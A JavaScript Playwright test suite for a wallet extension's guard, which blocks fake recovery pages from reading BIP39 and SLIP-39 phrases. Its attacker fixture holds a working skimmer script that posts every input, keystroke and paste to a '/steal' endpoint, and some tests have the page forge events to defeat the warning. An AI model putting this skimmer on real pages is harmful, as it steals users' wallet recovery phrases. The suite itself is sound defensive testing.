// The phrase guard against real attacker pages: a fake "wallet recovery" site (12 inputs, or one
// textarea) whose script posts whatever it can read (every input, keyup and paste) to its own
// server. Typing or pasting a valid recovery phrase must show Keystead's warning and the page
// must receive nothing until the user clicks "continue"; the user's own phrase is recognised in
// the closed shadow root only; 11 words, a bad checksum and a long English text show nothing;
// the page's script can neither remove the warning nor click it.
//
// Playwright does not enter closed shadow roots: the warning's content is read and its buttons
// located through CDP (DOM.getDocument with pierce), and clicked with the real mouse.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { startAnvil, launch, createWallet, startSite, openPopup, popupCall, msg } from './harness.mjs';

const ROOT = path.resolve(import.meta.dirname, '../..');
const LIST = readFileSync(path.join(ROOT, 'src/bip39-english.txt'), 'utf8').split('\n').filter(Boolean);

/** A valid BIP39 phrase (words) from `entropy`. */
function phraseFrom(entropy) {
  const hash = createHash('sha256').update(entropy).digest();
  const bits = [...entropy].map((b) => b.toString(2).padStart(8, '0')).join('')
    + hash[0].toString(2).padStart(8, '0').slice(0, entropy.length / 4);
  return bits.match(/.{11}/g).map((b) => LIST[parseInt(b, 2)]);
}

const isPrefixOfAnotherWord = (word) => LIST.some((w) => w !== word && word.startsWith(w));
/** A random valid 12-word phrase whose words do not start with a shorter list word (so typing it completes it exactly once). */
function cleanPhrase() {
  for (;;) {
    const words = phraseFrom(randomBytes(16));
    if (!words.some(isPrefixOfAnotherWord)) return words;
  }
}
/** The same words with the last one replaced so that the checksum fails. */
function badChecksum(words) {
  for (const last of LIST) {
    const candidate = [...words.slice(0, 11), last];
    if (last !== words[11] && !isPrefixOfAnotherWord(last) && !isValid(candidate)) return candidate;
  }
  throw new Error('no bad checksum found');
}
function isValid(words) {
  const bits = words.map((w) => LIST.indexOf(w).toString(2).padStart(11, '0')).join('');
  const entropy = Buffer.from(bits.slice(0, 128).match(/.{8}/g).map((b) => parseInt(b, 2)));
  return phraseFrom(entropy).join(' ') === words.join(' ');
}

// The attacker's script: everything it can read goes to POST /steal.
const STEAL = `<script>
  const send = (text) => fetch('/steal', { method: 'POST', body: text });
  const read = () => JSON.stringify([...document.querySelectorAll('input, textarea')].map((f) => f.value));
  for (const type of ['input', 'keyup', 'change']) document.addEventListener(type, () => send(read()), true);
  document.addEventListener('paste', (e) => send(e.clipboardData.getData('text/plain') + read()), true);
</script>`;
const FIELDS = `<!doctype html><title>Wallet recovery</title><h1>Restore your wallet</h1><form>
  ${Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" id="w${i + 1}" autocomplete="off">`).join('\n')}
  <button type="button">Recover</button></form>${STEAL}`;
const TEXTAREA = `<!doctype html><title>Wallet recovery</title><h1>Validate your wallet</h1>
  <textarea id="phrase" rows="8" cols="80"></textarea>${STEAL}`;
const FRAMED = '<!doctype html><title>Support</title><iframe src="/textarea" width="700" height="650"></iframe>';

let chain, browser, site, own;

before(async () => {
  chain = await startAnvil();
  browser = await launch();
  ({ words: own } = await createWallet(browser));
  site = await startSite({ '/fields': FIELDS, '/textarea': TEXTAREA, '/framed': FRAMED, '/steal': () => ({ body: 'ok' }) });
  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
});

after(async () => {
  await browser?.close();
  site?.stop();
  chain?.stop();
});

/** Whether the attacker's server received `words` in order (anywhere in one request). */
function leaked(words) {
  const phrase = words.join(' ');
  return site.requests.some((r) => r.path === '/steal' && (r.body.match(/[a-z]+/g) ?? []).join(' ').includes(phrase));
}

async function open(pathname) {
  const page = await browser.context.newPage();
  await page.goto(site.origin + pathname);
  return page;
}

/** The warning as the user sees it (read through CDP, piercing the closed shadow root); `text` is an element's own text. */
async function warning(page) {
  const cdp = await page.context().newCDPSession(page);
  try {
    const { root } = await cdp.send('DOM.getDocument', { depth: -1, pierce: true });
    const found = {};
    const walk = (node, inShadow) => {
      const attrs = {};
      for (let i = 0; i < (node.attributes ?? []).length; i += 2) attrs[node.attributes[i]] = node.attributes[i + 1];
      const text = (node.children ?? []).filter((child) => child.nodeType === 3).map((child) => child.nodeValue).join('');
      if (attrs['data-testid']?.startsWith('phrase-guard')) found[attrs['data-testid']] = { nodeId: node.nodeId, attrs, inShadow, text };
      for (const child of node.children ?? []) walk(child, inShadow);
      for (const shadow of node.shadowRoots ?? []) {
        if (attrs['data-testid'] === 'phrase-guard-warning') found.shadowRootType = shadow.shadowRootType;
        walk(shadow, true);
      }
      if (node.contentDocument) walk(node.contentDocument, inShadow);
    };
    walk(root, false);
    for (const entry of Object.values(found)) {
      if (typeof entry !== 'object') continue;
      try {
        const { model } = await cdp.send('DOM.getBoxModel', { nodeId: entry.nodeId });
        const q = model.content;
        entry.center = { x: (q[0] + q[4]) / 2, y: (q[1] + q[5]) / 2 };
      } catch { /* not rendered */ }
    }
    return found;
  } finally {
    await cdp.detach();
  }
}

async function until(check, what, ms = 10_000) {
  const end = Date.now() + ms;
  for (;;) {
    const value = await check();
    if (value) return value;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

const shownMessage = (page) => until(async () => (await warning(page))['phrase-guard-message'], 'the phrase guard warning');

async function click(page, testid) {
  const target = (await warning(page))[testid];
  assert.ok(target?.center, `${testid} is shown`);
  await page.mouse.click(target.center.x, target.center.y);
}

/** Waits until the page had every chance to post (a marker request sent after everything else). */
async function settle(page) {
  await page.evaluate(() => fetch('/steal', { method: 'POST', body: 'MARKER' }));
  await new Promise((r) => setTimeout(r, 300));
}

async function typeInFields(page, words) {
  for (const [i, word] of words.entries()) {
    await page.locator(`#w${i + 1}`).click();
    await page.keyboard.type(word);
  }
}

async function paste(page, selector, text) {
  await page.bringToFront();
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  await page.locator(selector).click();
  await page.keyboard.press('Control+V');
}

test('typing a valid phrase into 12 separate fields: warning, nothing reaches the page until "continue", then exactly what was typed', async () => {
  const words = cleanPhrase();
  const page = await open('/fields');
  await typeInFields(page, words);
  const message = await shownMessage(page);
  assert.equal(message.attrs['data-own-phrase'], 'false');
  assert.equal((await warning(page)).shadowRootType, 'closed');
  assert.equal(message.text, msg('guard_message'), 'the warning speaks the browser\'s language');
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute('lang')), null, 'the page\'s own <html lang> is left alone');
  await settle(page);
  assert.equal(leaked(words), false, 'the page received the phrase before the user chose');
  assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('input')].map((f) => f.value)), Array(12).fill(''));

  await click(page, 'phrase-guard-continue');
  await until(async () => (await page.locator('[data-testid=phrase-guard-warning]').count()) === 0, 'the warning to close');
  assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('input')].map((f) => f.value)), words);
  await until(() => leaked(words), 'the page to read the phrase after "continue"');
  await page.close();
});

test('typing a valid phrase into a textarea: warning before the page reads it', async () => {
  const words = cleanPhrase();
  const page = await open('/textarea');
  await page.locator('#phrase').click();
  await page.keyboard.type(words.map((w, i) => `${i + 1}. ${w.toUpperCase()}`).join(',  '));
  const message = await shownMessage(page);
  assert.equal(message.attrs['data-own-phrase'], 'false');
  await settle(page);
  assert.equal(leaked(words), false);
  assert.equal(await page.locator('#phrase').inputValue(), '');
  await click(page, 'phrase-guard-leave');
  await until(() => page.url() === 'about:blank', 'the tab to leave the site');
  assert.equal(leaked(words), false);
  await page.close();
});

test('pasting a valid phrase (a trusted Ctrl+V): the page sees no paste until "continue"', async () => {
  const words = cleanPhrase();
  const page = await open('/textarea');
  const before = site.requests.length;
  await paste(page, '#phrase', words.join(' '));
  await shownMessage(page);
  await settle(page);
  assert.equal(leaked(words), false);
  const read = site.requests.slice(before).flatMap((r) => r.body.match(/[a-z]+/g) ?? []);
  assert.deepEqual(read.filter((w) => words.includes(w)), [], 'the page read no word of the paste');
  await click(page, 'phrase-guard-continue');
  await until(async () => (await page.locator('#phrase').inputValue()) === words.join(' '), 'the pasted text to be put in');
  await until(() => leaked(words), 'the page to read the phrase after "continue"');
  await page.close();
});

test('pasting a SLIP-39 share (20 words, valid RS1024 checksum) warns too; the same share with a wrong word does not', async () => {
  const [, [share]] = JSON.parse(readFileSync(path.join(ROOT, 'tests/vectors/slip39.json'), 'utf8'))[0];
  const shareWords = share.split(' ');
  const page = await open('/textarea');
  const broken = [...shareWords.slice(0, 19), shareWords[19] === 'academic' ? 'acid' : 'academic'];
  await paste(page, '#phrase', broken.join(' '));
  await settle(page);
  assert.ok(leaked(broken), 'a share with a bad checksum is pasted through');
  assert.equal(Object.keys(await warning(page)).length, 0);
  await page.locator('#phrase').fill('');
  await paste(page, '#phrase', share);
  const message = await shownMessage(page);
  assert.equal(message.attrs['data-own-phrase'], 'false');
  await settle(page);
  assert.equal(leaked(shareWords), false);
  await page.close();
});

test('the user\'s own Keystead phrase is recognised, inside the closed shadow root only; the host looks the same to the page', async () => {
  const host = () => {
    const el = document.querySelector('[data-testid=phrase-guard-warning]');
    const r = el.getBoundingClientRect();
    return { html: el.outerHTML, rect: [r.x, r.y, r.width, r.height], shadow: el.shadowRoot, children: el.childNodes.length };
  };
  const seen = [];
  for (const words of [own, cleanPhrase()]) {
    const page = await open('/textarea');
    await paste(page, '#phrase', words.join(' '));
    const message = await shownMessage(page);
    seen.push({ own: message.attrs['data-own-phrase'], host: await page.evaluate(host), ownText: Boolean((await warning(page))['phrase-guard-own']) });
    await settle(page);
    assert.equal(leaked(words), false);
    await page.close();
  }
  assert.deepEqual(seen.map((s) => s.own), ['true', 'false']);
  assert.deepEqual(seen.map((s) => s.ownText), [true, false]);
  assert.deepEqual(seen[0].host, seen[1].host, 'the page sees the same host either way');
  assert.equal(seen[0].host.shadow, null);
});

test('11 words, a bad checksum and a long English text show nothing and reach the page as usual', async () => {
  const words = cleanPhrase();
  const page = await open('/textarea');
  await page.locator('#phrase').click();
  await page.keyboard.type(words.slice(0, 11).join(' '));
  await settle(page);
  assert.ok(leaked(words.slice(0, 11)));

  const bad = badChecksum(words);
  await page.locator('#phrase').fill('');
  await page.locator('#phrase').click();
  await page.keyboard.type(bad.join(' '));
  await settle(page);
  assert.ok(leaked(bad), 'a bad checksum is typed through');
  await page.locator('#phrase').fill('');
  await paste(page, '#phrase', bad.join(' '));
  await settle(page);
  assert.equal(await page.locator('#phrase').inputValue(), bad.join(' '));

  // A few hundred KB of ordinary English (this repository's documentation, minus the
  // well-known test phrase it quotes), put in through a trusted input event. Its lines are
  // joined with spaces: Chromium takes minutes to insert 300 KB with thousands of line breaks.
  const docs = ['README.md', ...readdirSync(path.join(ROOT, 'docs')).filter((f) => f.endsWith('.md')).map((f) => `docs/${f}`)]
    .map((f) => readFileSync(path.join(ROOT, f), 'utf8')).join('\n')
    .split('\n').filter((line) => !/test test|abandon abandon/i.test(line)).join(' ');
  let corpus = '';
  while (corpus.length < 300_000) corpus += `${docs} `;
  await page.locator('#phrase').fill('');
  await page.locator('#phrase').click();
  await page.keyboard.insertText(corpus);
  await settle(page);
  assert.equal(await page.locator('#phrase').inputValue(), corpus);
  assert.equal(await page.locator('[data-testid=phrase-guard-warning]').count(), 0);
  assert.equal(Object.keys(await warning(page)).length, 0);
  await page.close();
});

test('the page cannot use the guard (forged events) nor remove, hide, read or click the warning', async () => {
  const words = cleanPhrase();
  const page = await open('/textarea');
  // A page holding a phrase (or part of one) cannot make the guard check it: only the user's
  // own (trusted) input and pastes count, so it learns nothing, not even whether it is valid.
  await page.evaluate((phrase) => {
    const field = document.querySelector('#phrase');
    field.value = phrase;
    field.dispatchEvent(new InputEvent('input', { bubbles: true, data: phrase, inputType: 'insertText' }));
    const data = new DataTransfer();
    data.setData('text/plain', phrase);
    field.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    field.value = '';
  }, own.join(' '));
  await settle(page);
  assert.equal(Object.keys(await warning(page)).length, 0, 'forged events show no warning');

  await paste(page, '#phrase', words.join(' '));
  await shownMessage(page);
  const attempt = await page.evaluate(async () => {
    const host = document.querySelector('[data-testid=phrase-guard-warning]');
    const result = { shadowRoot: host.shadowRoot === null };
    host.remove();
    host.setAttribute('style', 'display: none');
    host.setAttribute('hidden', '');
    try { host.hidePopover(); } catch { /* */ }
    document.documentElement.replaceChildren(document.body);
    const r = host.getBoundingClientRect();
    for (const type of ['mousedown', 'mouseup', 'click']) {
      host.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: r.width / 2, clientY: r.height / 2 }));
    }
    host.click();
    await new Promise((resolve) => setTimeout(resolve, 200));
    result.connected = host.isConnected;
    result.open = host.matches(':popover-open');
    result.top = document.elementFromPoint(r.width / 2, r.height / 2) === host;
    return result;
  });
  assert.deepEqual(attempt, { shadowRoot: true, connected: true, open: true, top: true });
  assert.ok((await warning(page))['phrase-guard-continue']?.center, 'the warning still stands');
  await settle(page);
  assert.equal(leaked(words), false);
  await page.close();
});

test('in a frame too; "turn off on this site" asks first, is remembered, listed in Settings and can be turned back on', async () => {
  const words = cleanPhrase();
  const page = await open('/framed');
  const frame = page.frameLocator('iframe');
  await frame.locator('#phrase').click();
  await page.keyboard.type(words.join(' '));
  await shownMessage(page);
  await settle(page);
  assert.equal(leaked(words), false);
  await click(page, 'phrase-guard-disable');
  assert.equal(leaked(words), false, 'the first click only asks');
  await click(page, 'phrase-guard-disable-confirm');
  await until(() => leaked(words), 'the phrase to be given back');

  const popup = await openPopup(browser);
  assert.deepEqual((await popupCall(popup, 'phraseGuardSites')).result.disabledOrigins, [site.origin]);
  await popup.getByTestId('settings').click();
  await popup.locator(`[data-testid=phrase-guard-site][data-origin="${site.origin}"]`).waitFor();

  const again = await open('/textarea');
  const other = cleanPhrase();
  await paste(again, '#phrase', other.join(' '));
  await settle(again);
  assert.ok(leaked(other), 'the guard is off on this site');
  assert.equal(Object.keys(await warning(again)).length, 0);

  await popup.getByTestId('phrase-guard-enable').click();
  await popup.getByTestId('phrase-guard-sites-none').waitFor();
  const third = await open('/textarea');
  const next = cleanPhrase();
  await paste(third, '#phrase', next.join(' '));
  await shownMessage(third);
  await settle(third);
  assert.equal(leaked(next), false);
  for (const p of [page, popup, again, third]) await p.close();
});
